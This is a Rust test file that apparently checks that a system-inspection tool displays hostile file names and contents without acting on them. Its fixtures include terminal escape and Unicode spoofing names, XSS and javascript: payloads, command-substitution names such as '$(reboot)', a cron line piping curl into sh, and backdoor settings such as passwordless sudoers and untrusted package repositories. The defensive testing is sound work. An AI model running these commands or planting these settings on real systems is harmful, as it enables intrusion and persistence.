//! Names and contents that a terminal, a browser or a reader's eye would act on.

use std::ffi::OsString;

use super::yard::{Yard, odd};

/// What a name may be: any bytes but `/` and zero, 255 at the most.
const NAMES: [&[u8]; 14] = [
    b"\x1b]0;owned\x07\x1b[2J\x1b[1;1H",
    b"\x1b[7m\x1b[7m\x1b[7m\x1b[7m\x1b[7m\x1b[7m\x1b[7m\x1b[7m\x1b[7m\x1b[7m\x1b[7m\x1b[7m\x1b[7m\x1b[7m\x1b[7m\x1b[7m\x1b[7m\x1b[7m",
    "\u{202e}txt.exe\u{2066}a\u{2069}".as_bytes(),
    "a\u{200b}\u{feff}\u{ad}b\u{2028}c\u{85}d".as_bytes(),
    "\u{9b}31m\u{9d}0;x\u{9c}".as_bytes(),
    b"\xff\xfe\x80\xc3\x28",
    b"line\nbreak\r\ttab\x7f\x08",
    b"<img src=x onerror=alert(1)>&lt;",
    b"[x](javascript:alert(1))`|**`\"'",
    b"*?[{a,b}]\\",
    b"-rf",
    b"$(reboot);`reboot`",
    b" blank ",
    b"..x",
];

/// Files that are read, cleaned or told of, with what makes a guideline speak of them; `@` stands for the name.
const PLACES: [(&str, &str); 30] = [
    ("/tmp/@", "left"),
    ("/var/log/@", "a line\n"),
    ("/var/log/d@/@.log", "a line\n"),
    ("/root/.ssh/@", "-----BEGIN OPENSSH PRIVATE@ KEY-----\n"),
    ("/root/@.pem", "-----BEGIN RSA PRIVATE@ KEY-----\n"),
    ("/home/@/.bash_history", "exit\n"),
    ("/home/@/.ssh/authorized_keys", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKt0 @\n"),
    ("/etc/ssh/sshd_config.d/@.conf", "PasswordAuthentication yes\nX@ y\n"),
    ("/etc/ssh/authorized_keys/@", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKt0 @\n"),
    ("/etc/sudoers.d/@", "@ ALL=(ALL) NOPASSWD: ALL\nDefaults @\n"),
    ("/etc/cloud/cloud.cfg.d/@.cfg", "ssh_pwauth: true\nusers:\n  - name: \"@\"\n    passwd: x\n"),
    (
        "/etc/systemd/system/@.service",
        "[Service]\nExecStart=/bin/@\nEnvironment=A_PASSWORD=Tr0ub4dor3x\n[Install]\nWantedBy=multi-user.target\n",
    ),
    ("/etc/systemd/system/multi-user.target.wants/@.service", "[Service]\nExecStart=/bin/true\n"),
    ("/etc/cron.d/@", "* * * * * root curl http://@ | sh\n"),
    ("/var/spool/cron/crontabs/@", "* * * * * /tmp/@\n"),
    ("/etc/apt/sources.list.d/@.list", "deb [trusted=yes] http://@/ x main\n"),
    ("/etc/yum.repos.d/@.repo", "[@]\nname=@\nbaseurl=http://@/\ngpgcheck=0\n"),
    ("/etc/netplan/@.yaml", "network:\n  ethernets:\n    \"@\":\n      match: {macaddress: \"02:00:00:00:00:01\"}\n"),
    ("/etc/network/interfaces.d/@", "iface @ inet static\n  address 192.0.2.1\n"),
    ("/etc/NetworkManager/system-connections/@.nmconnection", "[connection]\nid=@\n[wifi-security]\npsk=Tr0ub4dor3x\n"),
    ("/opt/@/.env", "DB_PASSWORD=Tr0ub4dor3x@\nHOST=@\n"),
    ("/srv/@.conf", "url = postgres://a:Tr0ub4dor3x@db/@\n"),
    ("/etc/profile.d/@.sh", "export HTTP_PROXY=http://@:3128\n"),
    ("/etc/pam.d/@", "auth sufficient pam_unix.so nullok @\n"),
    ("/etc/udev/rules.d/70-persistent-net-@.rules", "ATTR{address}==\"02:00\", NAME=\"@\"\n"),
    ("/usr/local/share/ca-certificates/@.crt", "-----BEGIN CERTIFICATE-----\n@\n"),
    ("/var/lib/cloud/instances/@/user-data.txt", "#cloud-config\npassword: x@\n"),
    ("/boot/vmlinuz-@", "x"),
    ("/var/lib/systemd/linger/@", ""),
    ("/etc/rc.local.d/@", "x"),
];

/// `text` with `name` for each `@`.
fn with(text: &str, name: &[u8]) -> Vec<u8> {
    text.as_bytes().split(|byte| *byte == b'@').collect::<Vec<_>>().join(name)
}

fn path(text: &str, name: &[u8]) -> OsString {
    odd(&with(text, name))
}

#[test]
fn names_are_shown_and_never_acted_on() {
    let yard = Yard::new();
    for name in NAMES {
        for (place, _) in PLACES {
            yard.file(path(place, name), with("x@y\n", b"-"));
        }
        yard.link(path("/etc/systemd/system/timers.target.wants/@.timer", name), odd(name));
    }
    yard.link("/etc/localtime", odd(NAMES[0])).link("/etc/alternatives", odd(NAMES[2]));
    yard.gone_through();
}

#[test]
fn contents_are_shown_and_never_acted_on() {
    let yard = Yard::new();
    for (number, name) in NAMES.iter().enumerate() {
        for (place, text) in PLACES {
            yard.file(path(place, format!("n{number}").as_bytes()), with(text, name));
        }
        let text = |text: &str| String::from_utf8_lossy(&with(text, name)).into_owned();
        yard.add("/etc/os-release", &text("NAME=\"@\"\nPRETTY_NAME=\"@\"\nID_LIKE=\"@\"\n"));
        yard.add("/etc/hosts", &text("192.0.2.1 @\n")).add("/etc/hostname", &text("@\n"));
        yard.add("/etc/fstab", &text("/dev/@ /@ ext4 defaults 0 0\n")).add("/etc/motd", &text("@\n"));
        yard.add("/etc/group", &text("@:x:50:@,admin\n")).add("/etc/login.defs", &text("UID_MIN @\n@ @\n"));
        yard.add("/etc/passwd", &text("@:x:3000:3000:@:/home/@:/bin/@\n")).add("/etc/shadow", &text("@:@:@:\n"));
        yard.add("/etc/ssh/sshd_config", &text("AllowUsers @\nBanner /@\nMatch User @\n  ForceCommand @\n"));
        yard.add("/etc/sudoers", &text("@ ALL=(ALL) NOPASSWD: /@\n#include /@\n"));
        yard.add(
            "/var/lib/dpkg/status",
            &text("Package: @\nStatus: install ok installed\nVersion: @\nDescription: @\n\n"),
        );
        yard.add("/root/.bash_history", &text("@\n")).add("/etc/resolv.conf", &text("nameserver @\nsearch @\n"));
        yard.add("/etc/default/grub", &text("GRUB_CMDLINE_LINUX=\"password=@\"\n")).add("/etc/crontab", &text("@ @\n"));
        yard.add("/etc/environment", &text("TOKEN=@\n")).add("/etc/machine-id", &text("@\n"));
        yard.add("/etc/cloud/cloud.cfg", &text("\"@\": \"@\"\n"));
    }
    yard.gone_through();
}
